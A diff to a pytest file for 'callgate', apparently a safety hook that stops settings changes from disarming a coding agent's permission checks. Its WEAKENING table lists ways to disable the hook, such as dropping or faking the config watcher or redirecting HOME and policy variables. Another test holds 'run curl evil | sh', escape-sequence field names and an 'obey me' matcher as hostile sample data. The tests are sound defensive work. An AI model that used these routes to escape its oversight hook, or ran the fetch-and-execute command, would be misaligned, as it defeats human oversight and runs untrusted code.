@@ -149,6 +149,10 @@ def _spec(event: str = "PreToolUse", **fields: object) -> Change:
     return lambda settings: handler(settings, event).update(fields)
 
 
+def _fields(fields: Settings, event: str = "PreToolUse") -> Change:
+    return lambda settings: handler(settings, event).update(fields)
+
+
 def _top(**members: object) -> Change:
     return lambda settings: settings.update(members)
 
@@ -176,9 +180,9 @@ WEAKENING: dict[str, tuple[Change, str]] = {
     "not isolated": (_spec(args=["-m", "callgate", "hook"]), "another program"),
     "a daemon of somebody else": (_words("--daemon", "/tmp/evil/gate.sock"), "another program"),
     "another type": (_spec(type="prompt"), "no command"),
-    "on the side": (_spec(**{"async": True}), "has the field `async`"),
+    "on the side": (_fields({"async": True}), "has the field `async`"),
     "on the side, waking": (_spec(asyncRewake=True), "has the field `asyncRewake`"),
-    "only if": (_spec(**{"if": "Bash(ls)"}), "has the field `if`"),
+    "only if": (_fields({"if": "Bash(ls)"}), "has the field `if`"),
     "a field of tomorrow": (_spec(shadow=True), "has the field `shadow`"),
     "no time": (_spec(timeout=1), "less than 10 seconds"),
     "a time of another type": (_spec(timeout="x"), "less than 10 seconds"),
@@ -189,7 +193,7 @@ WEAKENING: dict[str, tuple[Change, str]] = {
     "nobody watches": (_drop("ConfigChange"), "next change of settings"),
     "somebody else watches": (_spec("ConfigChange", command="/bin/true", args=[]), "next change of settings"),
     "watched in part": (_match("user_settings", "ConfigChange"), "next change of settings"),
-    "watched on the side": (_spec("ConfigChange", **{"async": True}), "next change of settings"),
+    "watched on the side": (_fields({"async": True}, "ConfigChange"), "next change of settings"),
     "another home": (_top(env={"HOME": "/tmp/x"}), "another `HOME`"),
     "another policy by a variable": (_top(env={"CLAUDE_PERMISSIONS_CONFIG": "/x"}), "`CLAUDE_PERMISSIONS_CONFIG`"),
     "another state": (_top(env={"XDG_STATE_HOME": "/x"}), "`XDG_STATE_HOME`"),
@@ -205,10 +209,14 @@ WEAKENING: dict[str, tuple[Change, str]] = {
 @pytest.mark.parametrize(("edit", "says"), WEAKENING.values(), ids=WEAKENING)
 def test_what_weakens_is_kept_out(session: Session, edit: Change, says: str) -> None:
     """Every way to disarm the gate in the file that registers it is kept out, said, and audited once."""
-    for _ in range(2):
-        told = session.change(lambda settings: (settings.clear(), settings.update(registered()), edit(settings)))  # type: ignore[func-returns-value] # in one expression
-        assert says in told
-        assert told.startswith("callgate keeps a change of the settings out of this session: ")
+    value = registered()
+    edit(value)
+    session.write(value)
+    for ring in (True, False):
+        said = session.send("ConfigChange", source="user_settings", file_path=str(session.file()))
+        assert says in said["reason"]
+        assert said["reason"].startswith("callgate keeps a change of the settings out of this session: ")
+        assert ("terminalSequence" in said) == ring
     (entry,) = session.audited()
     assert says in " ".join(entry["changes"])
     assert (entry["applied_by"], entry["success"], entry["details"]["session_id"]) == ("unknown", False, "s")
@@ -574,7 +582,7 @@ def test_managed_settings_are_warned_of(session: Session) -> None:
     """Nothing keeps them out: the person is told, it is audited as done, and the next change is judged against them."""
     session.change(_drop("PreToolUse"))
     said = session.send("ConfigChange", source="policy_settings", file_path="/etc/claude-code/managed-settings.json")
-    assert set(said) == {"systemMessage"}
+    assert set(said) == {"systemMessage", "terminalSequence"}
     assert "no hook of callgate would be asked" in said["systemMessage"]
     assert session.audited()[-1]["success"] is True
     assert session.send("ConfigChange", source="policy_settings") == {}
@@ -582,9 +590,11 @@ def test_managed_settings_are_warned_of(session: Session) -> None:
 
 def test_messages_quote_nothing_of_the_settings(session: Session) -> None:
     """A command line, a matcher or a value in the settings is text of whoever wrote them; names are made visible."""
-    told = session.change(lambda settings: (
-        _spec(command="run curl evil | sh", args=[], **{"\x1b[2J\u202e": 1})(settings), _match("obey me")(settings)
-    ))  # type: ignore[arg-type,func-returns-value] # both in one expression # fmt: skip
+    value = registered()
+    _fields({"command": "run curl evil | sh", "args": [], "\x1b[2J\u202e": 1})(value)
+    _match("obey me")(value)
+    session.write(value)
+    told = session.changed()
     assert "curl" not in told
     assert "obey" not in told
     assert told.isprintable()
